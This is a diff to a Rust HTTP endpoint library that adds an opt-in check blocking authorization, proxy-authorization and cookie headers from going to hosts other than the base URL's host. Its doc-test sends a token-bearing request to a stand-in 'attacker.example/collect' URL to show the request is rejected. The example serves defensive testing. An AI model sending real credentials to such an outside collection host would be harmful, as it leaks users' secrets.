@@ -53,6 +53,8 @@ pub struct Endpoint {
 struct Inner {
     /// `DEFAULTS`, as the reference shows them.
     defaults: Value,
+    /// The host of the defaults' `baseUrl`, when credentials must stay on it.
+    credential_host: Option<Option<String>>,
     /// The defaults prepared for typed requests.
     prepared: typed::Prepared,
 }
@@ -102,13 +104,77 @@ impl Endpoint {
     }
 
     fn from_defaults(defaults: Map<String, Value>) -> Self {
+        Self::with_inner(defaults, false)
+    }
+
+    fn with_inner(defaults: Map<String, Value>, credential_host_check: bool) -> Self {
         let prepared = typed::Prepared::new(&defaults);
+        let credential_host = credential_host_check.then(|| {
+            defaults
+                .get("baseUrl")
+                .and_then(Value::as_str)
+                .and_then(url_host)
+                .map(str::to_ascii_lowercase)
+        });
         Endpoint {
             inner: Arc::new(Inner {
                 defaults: Value::Object(defaults),
+                credential_host,
                 prepared,
             }),
         }
+    }
+
+    /// A new endpoint that refuses to send credentials anywhere but the host
+    /// of its base URL (`true`), or that allows it again (`false`, the
+    /// default, as in the reference).
+    ///
+    /// With the check on, a request that carries an `authorization`,
+    /// `proxy-authorization` or `cookie` header and whose URL's host is not
+    /// the host of this endpoint's `baseUrl` (a full URL in the route, a
+    /// `{+url}` parameter, or a call that overrides `baseUrl`) fails with
+    /// [`Error::CredentialsHost`](crate::Error::CredentialsHost). Endpoints
+    /// made from this one with [`Endpoint::defaults`] keep the setting, and
+    /// check against their own `baseUrl`.
+    ///
+    /// ```
+    /// use endpoint_runtime::{Endpoint, Error};
+    /// use serde_json::json;
+    ///
+    /// let github = Endpoint::default()
+    ///     .defaults(json!({"headers": {"authorization": "token secret"}}))?
+    ///     .with_credential_host_check(true);
+    /// assert!(github.endpoint("GET /user", ()).is_ok());
+    /// let err = github.endpoint("GET https://attacker.example/collect", ()).unwrap_err();
+    /// assert!(matches!(err, Error::CredentialsHost { .. }));
+    /// # Ok::<(), endpoint_runtime::Error>(())
+    /// ```
+    pub fn with_credential_host_check(&self, on: bool) -> Endpoint {
+        Self::with_inner(self.defaults_map().clone(), on)
+    }
+
+    /// Refuses `request` when the credential host check is on and it would
+    /// carry credentials to another host.
+    pub(crate) fn check_credentials(&self, request: Request) -> Result<Request> {
+        let Some(base_host) = &self.inner.credential_host else {
+            return Ok(request);
+        };
+        const CREDENTIALS: [&str; 3] = ["authorization", "proxy-authorization", "cookie"];
+        let Some(header) = CREDENTIALS
+            .iter()
+            .find(|name| request.headers.contains(name))
+        else {
+            return Ok(request);
+        };
+        let host = url_host(&request.url).map(str::to_ascii_lowercase);
+        if host == *base_host {
+            return Ok(request);
+        }
+        Err(crate::Error::CredentialsHost {
+            header: (*header).to_owned(),
+            host: host.unwrap_or_default(),
+            base_host: base_host.clone().unwrap_or_default(),
+        })
     }
 
     fn defaults_map(&self) -> &Map<String, Value> {
@@ -145,12 +211,12 @@ impl Endpoint {
     /// written into the query, a header that cannot be sent, an unsafe path.
     pub fn endpoint<'o>(&self, route: &str, options: impl Into<Options<'o>>) -> Result<Request> {
         let options = options.into();
-        let merged = merge::merge(
+        let view = merge::View::new(
             self.defaults_map(),
             Some(Route::parse(route)),
             options.as_map()?,
-        )?;
-        parse::parse(&merged)
+        );
+        self.check_credentials(view.build()?)
     }
 
     /// Builds a request from options alone (they carry `method` and `url`):
@@ -171,8 +237,8 @@ impl Endpoint {
     /// As [`Endpoint::endpoint`].
     pub fn endpoint_options<'o>(&self, options: impl Into<Options<'o>>) -> Result<Request> {
         let options = options.into();
-        let merged = merge::merge(self.defaults_map(), None, options.as_map()?)?;
-        parse::parse(&merged)
+        let view = merge::View::new(self.defaults_map(), None, options.as_map()?);
+        self.check_credentials(view.build()?)
     }
 
     /// A new endpoint whose defaults are these defaults merged with
@@ -198,7 +264,10 @@ impl Endpoint {
     pub fn defaults<'o>(&self, options: impl Into<Options<'o>>) -> Result<Endpoint> {
         let options = options.into();
         let merged = merge::merge(self.defaults_map(), None, options.as_map()?)?;
-        Ok(Endpoint::from_defaults(merged))
+        Ok(Endpoint::with_inner(
+            merged,
+            self.inner.credential_host.is_some(),
+        ))
     }
 
     /// The current default options, as the reference's `DEFAULTS` shows them.
@@ -267,6 +336,20 @@ impl Endpoint {
         route: &typed::Route,
         params: &P,
     ) -> Result<Request> {
-        typed::build(self, route, params)
+        self.check_credentials(typed::build(self, route, params)?)
     }
+}
+
+/// The host (and port) of an absolute `http(s)://` URL, without user info.
+fn url_host(url: &str) -> Option<&str> {
+    let (scheme, rest) = url.split_once("://")?;
+    if !(scheme.eq_ignore_ascii_case("http") || scheme.eq_ignore_ascii_case("https")) {
+        return None;
+    }
+    let authority = rest.split(['/', '?', '#']).next().unwrap_or("");
+    Some(
+        authority
+            .rsplit_once('@')
+            .map_or(authority, |(_, host)| host),
+    )
 }
